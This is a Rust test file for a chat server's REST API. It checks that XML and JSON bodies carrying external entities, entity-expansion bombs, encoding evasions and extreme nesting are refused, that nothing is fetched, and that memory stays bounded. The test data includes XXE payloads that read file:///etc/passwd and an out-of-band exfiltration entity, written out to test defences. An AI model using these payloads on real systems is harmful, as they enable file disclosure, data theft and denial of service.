//! XML that names what is elsewhere, grows while it is read, hides its kind or never ends, and JSON that never ends: it
//! is refused, and nothing is fetched, read or kept for it.

use std::io::ErrorKind;
use std::net::TcpListener;

use super::support::service::Service;
use super::support::wire::{Answer, Request};
use super::visitor::{API, SECRET, Visitor, everything, secret_mode};

/// More than the service ever needs for one body, and much less than the expansion would take.
const LITTLE: u64 = 300 << 20;

/// Where XML is read: the request, the root element, and an element in it that is read and shown.
const READERS: [(&str, &str, &str); 9] = [
    ("PUT /users/jane", "user", "name"),
    ("POST /users/jane/groups", "userGroups", "groupname"),
    ("POST /users/jane/roster", "rosterItem", "nickname"),
    ("PUT /users/jane/vcard", "vCard", "FN"),
    ("POST /groups", "group", "description"),
    ("POST /chatservices", "chatService", "description"),
    ("POST /chatrooms", "chatRoom", "description"),
    ("POST /messages/users", "message", "body"),
    ("POST /system/properties", "property", "x"),
];

/// Those whose readers differ in kind: an entity, a card that is kept as it is, lists within an entity.
const KINDS: [usize; 3] = [0, 3, 6];

/// A document type in front of an element that uses it. `URL` is where nobody must ask.
const DOCUMENT_TYPES: [(&str, &str); 16] = [
    ("<!DOCTYPE r>", "x"),
    ("<!DOCTYPE r SYSTEM \"URL\">", "x"),
    ("<!DOCTYPE r PUBLIC \"-//x\" \"URL\">", "x"),
    ("<!DOCTYPE r []>", "x"),
    ("<!DOCTYPE r [<!ENTITY e \"inner\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY e SYSTEM \"URL\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY e SYSTEM \"firekeeper.db\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY e PUBLIC \"x\" \"URL\">]>", "&e;"),
    ("<!DOCTYPE r [<!ENTITY % p SYSTEM \"URL\"> %p;]>", "x"),
    (
        "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % p \"<!ENTITY &#37; q SYSTEM 'URL?%f;'>\">%p;%q;]>",
        "x",
    ),
    ("<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", "&a;"),
    ("<!DOCTYPE r [<!ENTITY lt \"x\">]>", "&lt;"),
    ("<!DOCTYPE r [<!ATTLIST user password CDATA \"x\">]>", "x"),
    ("<!DOCTYPE r [<!NOTATION n SYSTEM \"URL\">]>", "x"),
    ("<!doctype r>", "x"),
];

fn laughs() -> String {
    let mut kind = "<!DOCTYPE r [<!ENTITY l0 \"ha\">".to_owned();
    for level in 1..=9 {
        let inner = format!("&l{};", level - 1).repeat(10);
        kind.push_str(&format!("<!ENTITY l{level} \"{inner}\">"));
    }
    kind + "]>"
}

fn quadratic() -> (String, String) {
    let kind = format!("<!DOCTYPE r [<!ENTITY big \"{}\">]>", "x".repeat(100_000));
    (kind, "&big;".repeat(100_000))
}

fn document(kind: &str, root: &str, element: &str, content: &str) -> String {
    format!("<?xml version=\"1.0\"?>{kind}<{root}><{element}>{content}</{element}></{root}>")
}

fn send(service: &Service, request: &str, body: impl Into<Vec<u8>>) -> Answer {
    Visitor::with(service, SECRET).send_xml(request, body)
}

#[test]
fn a_document_type_is_refused_wherever_xml_is_read_and_nothing_is_fetched() {
    let service = Service::demo(secret_mode());
    let before = everything(&service, SECRET);
    let elsewhere = TcpListener::bind("127.0.0.1:0").expect("a port");
    elsewhere.set_nonblocking(true).expect("a listener that does not wait");
    let url = format!("http://{}/x", elsewhere.local_addr().expect("its address"));
    let (quadratic_kind, quadratic_content) = quadratic();
    let laughs = laughs();
    for (request, root, element) in READERS {
        let kinds = DOCUMENT_TYPES.into_iter().chain([
            (laughs.as_str(), "&l9;"),
            (quadratic_kind.as_str(), quadratic_content.as_str()),
        ]);
        for (kind, content) in kinds {
            let kind = kind.replace("URL", &url);
            let answer = send(&service, request, document(&kind, root, element, content));
            let shown: String = kind.chars().take(200).collect();
            assert_eq!(answer.status, 400, "{request} {shown}");
            assert!(!answer.text().contains("root:"), "{request} {shown}");
        }
        // what no document type declares is no entity either
        for content in [
            "&e;",
            "&nbsp;",
            "&%p;",
            "&#0;",
            "&#xD800;",
            "&#x110000;",
            "&#99999999999;",
            "&;",
        ] {
            let answer = send(&service, request, document("", root, element, content));
            assert_eq!(answer.status, 400, "{request} {content}");
        }
    }
    let asked = elsewhere.accept();
    assert!(
        asked.is_err_and(|error| error.kind() == ErrorKind::WouldBlock),
        "somebody asked"
    );
    assert_eq!(everything(&service, SECRET), before);
    if let Some(most) = service.most_memory() {
        assert!(most < LITTLE, "{most}");
    }
}

fn utf16(text: &str, bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(bytes).collect()
}

#[test]
fn no_encoding_hides_a_document_type() {
    let service = Service::demo(secret_mode());
    let before = everything(&service, SECRET);
    for (request, root, element) in READERS {
        let plain = |encoding: &str, content: &str| {
            format!(
                "<?xml version=\"1.0\" encoding=\"{encoding}\"?><!DOCTYPE {root} [<!ENTITY e \"x\">]><{root}><{element}>{content}</{element}></{root}>"
            )
        };
        let wide = plain("UTF-16", "&e;");
        // In UTF-7 the same characters can be written as +ADw- and so on; a reader that does not know UTF-7 sees no markup.
        let utf7 = plain("UTF-7", "&e;").replace("<!", "+ADwAIQ-");
        let mut bodies: Vec<Vec<u8>> = vec![
            utf16(&wide, u16::to_le_bytes),
            utf16(&wide, u16::to_be_bytes),
            [b"\xFF\xFE".to_vec(), utf16(&wide, u16::to_le_bytes)].concat(),
            [b"\xFE\xFF".to_vec(), utf16(&wide, u16::to_be_bytes)].concat(),
            [b"\xEF\xBB\xBF".to_vec(), plain("UTF-8", "&e;").into_bytes()].concat(),
            [
                b"\xFF\xFE\0\0".to_vec(),
                wide.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect(),
            ]
            .concat(),
            wide.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect(),
            utf16(&plain("UTF-8", "&e;"), u16::to_le_bytes),
            wide.into_bytes(),
            utf7.into_bytes(),
            // an overlong `<`
            plain("UTF-8", "x")
                .replacen("<!", "\u{fffd}", 1)
                .into_bytes()
                .into_iter()
                .flat_map(|byte| {
                    if byte == 0xEF {
                        vec![0xC0, 0xBC, b'!']
                    } else {
                        vec![byte]
                    }
                })
                .collect(),
        ];
        for encoding in [
            "UTF-7",
            "utf-32",
            "IBM037",
            "EBCDIC-CP-US",
            "ISO-2022-JP",
            "ISO-2022-KR",
            "HZ-GB-2312",
            "GB18030",
            "Shift_JIS",
            "x-user-defined",
            "replacement",
            "ISO-8859-1",
            "windows-1252",
            "us-ascii",
            "nonsense",
            "",
        ] {
            bodies.push(plain(encoding, "&e;").into_bytes());
        }
        for body in bodies {
            let shown = String::from_utf8_lossy(&body[..body.len().min(120)]).into_owned();
            assert_eq!(send(&service, request, body).status, 400, "{request} {shown:?}");
        }
    }
    assert_eq!(everything(&service, SECRET), before);
}

#[test]
fn an_xml_document_with_a_hundred_thousand_levels_is_refused() {
    const LEVELS: usize = 100_000;
    let service = Service::demo(secret_mode());
    let before = everything(&service, SECRET);
    for (request, root, _) in READERS {
        let open = "<a>".repeat(LEVELS);
        let close = "</a>".repeat(LEVELS);
        for body in [
            open.clone(),
            format!("{open}{close}"),
            format!("<{root}>{open}{close}</{root}>"),
            format!("<{root}>{}", format!("<{root}>").repeat(LEVELS)),
        ] {
            assert_eq!(send(&service, request, body).status, 400, "{request}");
        }
    }
    assert_eq!(everything(&service, SECRET), before);
}

#[test]
fn xml_that_is_wide_or_tangled_is_read_or_refused() {
    const MANY: usize = 60_000;
    let service = Service::demo(secret_mode());
    let list = |item: &dyn Fn(usize) -> String| (0..MANY).map(item).collect::<String>();
    for (request, root, element) in KINDS.map(|kind| READERS[kind]) {
        for body in [
            // many elements, attributes, names, namespaces, comments, references
            format!("<{root}>{}</{root}>", "<a/>".repeat(MANY)),
            format!("<{root} {}/>", list(&|n| format!("a{n}=''"))),
            format!("<{root}>{}</{root}>", list(&|n| format!("<a{n}/>"))),
            format!("<{root} {}/>", list(&|n| format!("xmlns:a{n}='u'"))),
            format!("<{root}>{}</{root}>", "<p:a xmlns:p='u'/>".repeat(MANY / 2)),
            format!(
                "<{root} xmlns:p='{}'>{}</{root}>",
                "u".repeat(1 << 19),
                "<a/>".repeat(MANY * 3)
            ),
            format!("<{root}><{element}>{}</{element}></{root}>", "<!---->".repeat(MANY)),
            format!("<{root}><{element}>{}</{element}></{root}>", "&amp;".repeat(MANY)),
            format!(
                "<{root}><{element}>{}</{element}></{root}>",
                "<![CDATA[]]>".repeat(MANY)
            ),
            format!("<{}>", "a".repeat(1 << 20)),
            format!("<{root} a=\"{}", "<".repeat(1 << 20)),
            format!("<{root}><!--{}", "-".repeat(1 << 20)),
            "<".repeat(1 << 20),
            "&".repeat(1 << 20),
            "<!".repeat(1 << 19),
            "<?".repeat(1 << 19),
            "<a '".repeat(1 << 18),
            "<![CDATA[".repeat(1 << 16),
        ] {
            let shown: String = body.chars().take(60).collect();
            let answer = send(&service, request, body);
            assert!(
                (200..500).contains(&answer.status),
                "{request} {shown}: {}",
                answer.status
            );
        }
    }
    if let Some(most) = service.most_memory() {
        assert!(most < LITTLE, "{most}");
    }
}

#[test]
fn json_with_a_hundred_thousand_levels_is_refused() {
    const LEVELS: usize = 100_000;
    let service = Service::demo(secret_mode());
    let before = everything(&service, SECRET);
    let lists = "[".repeat(LEVELS) + &"]".repeat(LEVELS);
    let objects = "{\"a\":".repeat(LEVELS) + "1" + &"}".repeat(LEVELS);
    let mut caller = Visitor::with(&service, SECRET);
    for (request, root, _) in READERS.into_iter().filter(|(request, ..)| !request.ends_with("vcard")) {
        for deep in [&lists, &objects] {
            for body in [
                deep.clone(),
                deep[..LEVELS].to_owned(),
                format!("{{\"nonsense\":{deep}}}"),
                format!("{{\"{root}\":{deep}}}"),
                // a key that is passed over where it means nothing, and ones that are read
                format!("{{\"username\":\"x\",\"password\":\"x\",\"groups\":{deep}}}"),
                format!("{{\"username\":\"x\",\"password\":\"x\",\"properties\":{deep}}}"),
                format!("{{\"name\":{deep}}}"),
                format!("{{\"key\":\"x\",\"value\":{deep}}}"),
                format!("{{\"groupnames\":{deep}}}"),
                format!("{{\"members\":{deep},\"name\":\"x\",\"roomName\":\"x\"}}"),
            ] {
                let answer = caller.send_json(request, &body);
                let shown: String = body.chars().take(60).collect();
                assert_eq!(answer.status, 400, "{request} {shown}: {}", answer.text());
            }
        }
    }
    assert_eq!(everything(&service, SECRET), before);
}

#[test]
fn json_that_is_wide_or_odd_is_read_or_refused() {
    const MANY: usize = 150_000;
    let service = Service::demo(secret_mode());
    let mut caller = Visitor::with(&service, SECRET);
    let many = |item: &dyn Fn(usize) -> String| (0..MANY).map(item).collect::<Vec<_>>().join(",");
    for (request, ..) in [READERS[0], READERS[6]] {
        for body in [
            format!("{{{}}}", many(&|n| format!("\"a{n}\":1"))),
            format!("{{{}}}", many(&|_| "\"name\":1".to_owned())),
            format!("[{}]", many(&|_| "1".to_owned())),
            format!("{{\"groupnames\":[{}]}}", many(&|_| "{}".to_owned())),
            format!("{{\"maxUsers\":{}}}", "9".repeat(1 << 20)),
            "{\"maxUsers\":1e999999999}".to_owned(),
            "{\"subscriptionType\":1e-999999999,\"jid\":\"x@example.net\"}".to_owned(),
            format!("{{\"subscriptionType\":0.{}1}}", "0".repeat(1 << 20)),
            format!("{{\"creationDate\":{}}}", "9".repeat(1 << 20)),
            "{\"creationDate\":-9223372036854775809}".to_owned(),
            format!("{{\"name\":\"{}\"}}", "\\ud800".repeat(1 << 17)),
            format!("{{\"name\":\"{}\"}}", "\\\\".repeat(1 << 19)),
            "\"".repeat(1 << 20),
            "{".repeat(1 << 20),
            " ".repeat(1 << 20),
        ] {
            let answer = caller.send_json(request, &body);
            let shown: String = body.chars().take(60).collect();
            assert!(
                (200..500).contains(&answer.status),
                "{request} {shown}: {}",
                answer.status
            );
        }
    }
    if let Some(most) = service.most_memory() {
        assert!(most < LITTLE, "{most}");
    }
}

#[test]
fn a_vcard_is_given_back_without_what_it_cannot_be_trusted_with() {
    let service = Service::demo(secret_mode());
    let card = "<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://example.net/x.xsl\"?><vCard xmlns=\"vcard-temp\"><FN>a]]&gt;b&lt;script&gt;</FN></vCard>";
    assert_eq!(send(&service, "PUT /users/jane/vcard", card).status, 200);
    let request = Request::get(&format!("{API}/users/jane/vcard")).header("Authorization", SECRET);
    let answer = service.send(&request).expect("an answer");
    let text = answer.text();
    assert_eq!(answer.header("content-type").as_deref(), Some("application/xml"));
    assert!(!text.contains("stylesheet") && !text.contains("<script"), "{text}");
    assert!(text.contains("a]]&gt;b&lt;script"), "{text}");
}
